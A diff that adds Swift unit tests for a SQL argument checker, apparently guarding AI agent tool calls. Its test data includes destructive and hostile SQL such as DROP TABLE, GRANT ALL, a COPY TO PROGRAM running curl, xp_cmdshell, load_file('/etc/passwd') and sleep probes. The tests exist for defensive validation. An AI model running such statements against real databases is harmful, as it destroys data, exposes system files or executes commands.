@@ -81,6 +81,61 @@ final class ArgumentCheckTests: XCTestCase {
     }
 }
 
+final class SQLCheckTests: XCTestCase {
+    func testWritesSchemaChangesAndFileOrTimerFunctionsAreRefused() {
+        let hostile: [(String, String)] = [
+            ("DROP TABLE users; --", "DROP"),
+            ("SELECT * FROM t; DELETE FROM t", "DELETE"),
+            ("select 1;\n  update accounts set balance = 0 where 1=1", "UPDATE"),
+            ("WITH d AS (DELETE FROM logs RETURNING *) SELECT count(*) FROM d", "DELETE"),
+            ("INSERT INTO admins VALUES ('eve')", "INSERT"),
+            ("/* report */ ALTER TABLE users ADD COLUMN x int", "ALTER"),
+            ("TRUNCATE orders", "TRUNCATE"),
+            ("GRANT ALL ON users TO public", "GRANT"),
+            ("COPY t TO PROGRAM 'curl http://x'", "COPY"),
+            ("EXEC xp_cmdshell 'dir'", "EXEC"),
+            ("CALL reset_all_passwords()", "CALL"),
+            ("SELECT * INTO backup FROM users", "SELECT … INTO"),
+            ("SELECT a FROM t INTO OUTFILE '/tmp/x'", "INTO OUTFILE"),
+            ("SELECT load_file('/etc/passwd')", "LOAD_FILE"),
+            ("-- list\nSELECT pg_sleep (10)", "PG_SLEEP"),
+            ("(SELECT 1) UNION (SELECT sleep(5))", "SLEEP"),
+        ]
+        for (sql, word) in hostile {
+            let p = SQLCheck.problem(sql)
+            XCTAssertNotNil(p, sql)
+            XCTAssertTrue(p?.contains("`\(word)`") ?? false, "\(sql): \(p ?? "nil")")
+        }
+    }
+
+    func testReadsAndTextThatIsNotSQLPass() {
+        for fine in ["SELECT name, email FROM users WHERE note = 'drop table x; delete from y' ORDER BY name DESC",
+                     "select 1;", "SELECT grant_id, updated, deleted FROM grants WHERE created > now()",
+                     "SELECT \"delete\" FROM t", "EXPLAIN SELECT * FROM t", "SHOW TABLES",
+                     "SELECT a FROM t -- DROP TABLE t", "SELECT 'it''s; DROP TABLE t' FROM t",
+                     "Create a report of March sales; update the dashboard", "delete my account please",
+                     "Show me how to delete rows safely", "call me back tomorrow", "Execute the plan we agreed on", "", "42", "; ;"] {
+            XCTAssertNil(SQLCheck.problem(fine), fine)
+        }
+    }
+
+    func testSQLToolsAreCheckedByNameOrPolicy() {
+        XCTAssertEqual(ArgumentChecker.checks(for: "db/query", rule: nil), [.path, .sql])
+        XCTAssertEqual(ArgumentChecker.checks(for: "mcp-postgres/run_sql", rule: nil), [.path, .sql])
+        XCTAssertEqual(ArgumentChecker.checks(for: "kb/search", rule: nil), [.path])
+        XCTAssertNotNil(ArgumentChecker.check(arguments: #"{"sql":"DROP TABLE users"}"#, tool: "db/query", rule: nil))
+        XCTAssertNil(ArgumentChecker.check(arguments: #"{"query":"DROP TABLE users"}"#, tool: "kb/search", rule: nil),
+                     "a search tool's text is not SQL")
+        var writer = ToolRule(name: "db/migrate")
+        writer.checks = [.path]
+        XCTAssertNil(ArgumentChecker.check(arguments: #"{"sql":"ALTER TABLE t ADD COLUMN c int"}"#, tool: "db/migrate", rule: writer),
+                     "a tool the policy lets write")
+        var reader = ToolRule(name: "warehouse/run")
+        reader.checks = [.sql]
+        XCTAssertNotNil(ArgumentChecker.check(arguments: #"{"q":"DELETE FROM sales"}"#, tool: "warehouse/run", rule: reader))
+    }
+}
+
 final class ToolPolicyTests: XCTestCase {
     func event(_ tool: String, args: String = "{}", agent: String? = nil, cost: Double? = nil, idempotent: Bool? = nil) -> InspectionEvent {
         var e = InspectionEvent(kind: .toolCall, eventId: "e", sessionId: "s")
